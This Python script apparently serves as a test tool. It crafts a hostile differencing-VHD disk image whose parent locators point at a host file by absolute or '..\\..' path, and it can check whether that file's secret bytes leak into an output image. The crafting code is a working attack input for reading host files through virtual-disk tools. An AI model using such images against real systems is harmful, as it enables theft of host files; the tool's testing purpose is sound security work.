#!/usr/bin/python3
"""Craft what a hostile guest (or a hostile image file) would: a
differencing-VHD header whose parent locators name a host file.

  trust-craft.py head SIZE LOCATOR [PARENT_UUID_HEX]  > head.bin
  trust-craft.py tail SIZE                            > tail.bin
  trust-craft.py file OUT SIZE LOCATOR [PARENT_UUID_HEX]
  trust-craft.py no-secret FILE SECRET    exit 1 if any 4 KiB piece of
                                          SECRET appears in FILE

head: footer copy, dynamic header, BAT (all blocks absent: every sector
reads from the parent) and the two locators, 3 KiB at offset 0; tail: the
footer for the last 512 bytes of a disk of SIZE bytes; file: both, as a
whole image.  LOCATOR is a Windows path ("C:\\dir\\secret" or
"..\\..\\secret"), stored in both the W2ru and W2ku locators and, by base
name, in the parent name.  Written from the VHD specification, big-endian,
locator payloads UTF-16LE.  PARENT_UUID_HEX defaults to a fixed non-zero
UUID; "0" gives a zero UUID (vdisk's non-VHD base).
"""
import struct
import sys

SECTOR = 512
BLOCK = 2 << 20


def csum(b, at):
    return (~(sum(b[:at]) + sum(b[at + 4:]))) & 0xFFFFFFFF


def footer(size):
    f = bytearray(512)
    f[0:8] = b'conectix'
    struct.pack_into('>IIQI', f, 8, 2, 0x00010000, 512, 0)
    f[28:32] = b'evil'
    struct.pack_into('>I', f, 32, 0x000a0000)
    f[36:40] = b'Wi2k'
    struct.pack_into('>QQHBBI', f, 40, size, size, 65535, 16, 255, 4)
    f[68:84] = bytes(range(1, 17))
    struct.pack_into('>I', f, 64, csum(f, 64))
    return bytes(f)


def head(size, loc, puuid):
    entries = (size + BLOCK - 1) // BLOCK
    payload = loc.encode('utf-16-le')
    plen = (len(payload) + SECTOR - 1) // SECTOR * SECTOR
    bat_off = 1536
    bat_len = (4 * entries + SECTOR - 1) // SECTOR * SECTOR
    loc_off = bat_off + bat_len
    h = bytearray(1024)
    h[0:8] = b'cxsparse'
    struct.pack_into('>QQIII', h, 8, 0xFFFFFFFFFFFFFFFF, bat_off, 0x00010000,
                     entries, BLOCK)
    h[40:56] = puuid
    name = loc.replace('/', '\\').split('\\')[-1].encode('utf-16-be')
    h[64:64 + len(name)] = name
    for i, code in enumerate((b'W2ru', b'W2ku')):
        b = 576 + 24 * i
        h[b:b + 4] = code
        struct.pack_into('>IIIQ', h, b + 4, plen, len(payload), 0,
                         loc_off + i * plen)
    struct.pack_into('>I', h, 36, csum(h, 36))
    out = bytearray(loc_off + 2 * plen)
    out[0:512] = footer(size)
    out[512:1536] = h
    out[bat_off:bat_off + bat_len] = b'\xff' * bat_len
    for i in range(2):
        out[loc_off + i * plen:loc_off + i * plen + len(payload)] = payload
    assert len(out) <= 4096, len(out)
    return bytes(out)


def uuid_arg(argv, i):
    if len(argv) > i:
        return bytes(16) if argv[i] == '0' else bytes.fromhex(argv[i])
    return bytes.fromhex('0123456789abcdef0123456789abcdef')


def main(argv):
    cmd = argv[1]
    if cmd == 'head':
        sys.stdout.buffer.write(head(int(argv[2]), argv[3], uuid_arg(argv, 4)))
    elif cmd == 'tail':
        sys.stdout.buffer.write(footer(int(argv[2])))
    elif cmd == 'file':
        size = int(argv[3])
        h = head(size, argv[4], uuid_arg(argv, 5))
        with open(argv[2], 'wb') as f:
            f.write(h)
            f.truncate(size)
            f.seek(size - 512)
            f.write(footer(size))
    elif cmd == 'no-secret':
        data = open(argv[2], 'rb').read()
        secret = open(argv[3], 'rb').read()
        for off in range(0, len(secret), 4096):
            if secret[off:off + 4096] in data:
                sys.exit("secret bytes at %d found" % off)
    else:
        sys.exit('unknown command ' + cmd)


main(sys.argv)
